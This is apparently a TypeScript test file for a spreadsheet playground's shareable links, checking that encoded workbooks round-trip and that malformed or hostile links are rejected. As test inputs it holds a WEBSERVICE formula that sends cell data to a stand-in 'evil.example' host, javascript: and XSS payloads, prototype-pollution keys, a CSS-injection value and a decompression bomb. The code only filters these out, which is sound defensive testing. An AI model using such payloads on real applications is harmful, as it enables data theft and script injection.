import { deflateRawSync } from 'node:zlib';
import {
  LinkFault,
  linkTo,
  longestLink,
  readLink as readWith,
  type SharedWorkbook,
} from '../../playground/links/sharedWorkbook';

const address = 'https://host.example/some/path/';
const readLink = (hash: string) => readWith(hash, (format) => !/[["]/.test(format));
const fragment = (content: unknown): string =>
  `#book=${deflateRawSync(typeof content === 'string' ? content : JSON.stringify(content)).toString('base64url')}`;
const book = (cells: object, name: unknown = 'Sheet1', widths: object = {}) =>
  fragment({ v: 1, s: [[name, cells, widths]] });
const shared = (cells: SharedWorkbook['sheets'][number]['cells']): SharedWorkbook => ({
  sheets: [{ name: 'Sheet1', cells, widths: { 0: 240 } }],
  skipped: [],
});

it('brings back what was typed', async () => {
  const sheets = [
    {
      name: 'Prices & costs',
      cells: {
        A1: { content: '=RURETAIL.SEARCH("iphone",5)', bold: true },
        B9: { content: 46_343, format: 'd mmm yyyy' },
        C1: { content: "'=not a formula" },
        D2: { content: true },
        E3: { content: 'Цена, €' },
      },
      widths: { 0: 240, 1: 104 },
    },
    { name: 'Second', cells: {}, widths: {} },
  ];
  const link = await linkTo(address, { sheets, skipped: [] });
  expect(link.startsWith(`${address}#book=`)).toBe(true);
  expect(await readLink(new URL(link).hash)).toEqual({ sheets, skipped: [] });
});

it('says by how much a workbook is too large', async () => {
  const random = Array.from({ length: 3_000 }, (_, row): [string, { content: number }] => [
    `A${row + 1}`,
    { content: Math.sin(row + 1) },
  ]);
  const making = linkTo(address, shared(Object.fromEntries(random)));
  await expect(making).rejects.toThrow(LinkFault);
  await expect(making).rejects.toThrow(new RegExp(`too large.*${longestLink.toLocaleString('en')}`));
});

it('does not write a link that it would not read', async () => {
  await expect(linkTo(address, shared({ ZZ1: { content: 1 } }))).rejects.toThrow(/60 columns/);
  const sheets = [{ name: 'a/b', cells: {} }];
  await expect(linkTo(address, { sheets, skipped: [] })).rejects.toThrow(LinkFault);
});

it('leaves out formulas that reach outside or change by themselves', async () => {
  const { sheets, skipped } = await readLink(
    book({
      A1: '=WEBSERVICE("https://evil.example/?"&B1)',
      A2: '=HYPERLINK("javascript:alert(1)")',
      A3: '=NOW()',
      A4: '=SUM(B1:B3)',
    }),
  );
  expect(Object.keys(sheets[0]!.cells)).toEqual(['A4']);
  expect(skipped).toEqual(['Sheet1!A1 uses WEBSERVICE', 'Sheet1!A2 uses HYPERLINK', 'Sheet1!A3 uses NOW']);
});

it('takes only formats that can be drawn', async () => {
  const { sheets } = await readLink(book({ A1: [1, '0.00', 0], A2: [1, '[', 0], A3: [1, '"', 1] }));
  expect(sheets[0]!.cells).toEqual({
    A1: { content: 1, format: '0.00' },
    A2: { content: 1 },
    A3: { content: 1, bold: true },
  });
});

it.each<[string, string]>([
  ['nothing', '#book='],
  ['what is not base64', '#book=<script>alert(1)</script>'],
  ['base64 of anything', '#book=AAAA'],
  ['a link that was cut off', book({ A1: 'some text that is long enough' }).slice(0, 30)],
  ['what is not JSON', fragment('<img src=x onerror=alert(1)>')],
  ['another kind of JSON', fragment([1])],
  ['no version', fragment({ s: [['Sheet1', {}, {}]] })],
  ['a newer version', fragment({ v: 2, s: [] })],
  ['no sheet', fragment({ v: 1, s: [] })],
  ['two sheets of one name', fragment({ v: 1, s: ['A', 'a'].map((name) => [name, {}, {}]) })],
  ['a sheet that is none', fragment({ v: 1, s: [null] })],
  ['too many sheets', fragment({ v: 1, s: Array.from({ length: 21 }, (_, n) => [`S${n}`, {}, {}]) })],
  ['a name that Excel refuses', book({}, '[other.xlsx]Sheet')],
  ['a name that is no text', book({}, { toString: 1 })],
  ['a cell outside the sheet', book({ A9999: 1 })],
  ['a column outside the sheet', book({ ZZ1: 1 })],
  ['an address that is none', book({ 'constructor.prototype': 1 })],
  ['a prototype', fragment('{"v":1,"s":[["Sheet1",{"__proto__":{"A1":1}},{}]]}')],
  ['an object as a value', book({ A1: { v: 1, f: '=1', p: {} } })],
  ['a list as a value', book({ A1: [[1], '', 0] })],
  ['a format that is no text', book({ A1: [1, { n: 1 }, 0] })],
  ['an endless text', book({ A1: 'x'.repeat(32_768) })],
  ['a width of a column that is not there', book({}, 'Sheet1', { 99: 100 })],
  ['a width that is no number', book({}, 'Sheet1', { 0: '1; color: red' })],
  ['too many cells', book(Object.fromEntries(Array.from({ length: 5_001 }, (_, n) => [`A${n + 1}`, 1])))],
  ['a small text that unpacks to a large one', fragment(' '.repeat(5_000_000))],
  ['a very long link', `#book=${'A'.repeat(100_000)}`],
])('refuses %s with a sentence', async (_, given) => {
  const reading = readLink(given);
  await expect(reading).rejects.toThrow(LinkFault);
  await expect(reading).rejects.toThrow(/^(The workbook in this link|This link) .*\.$/);
});
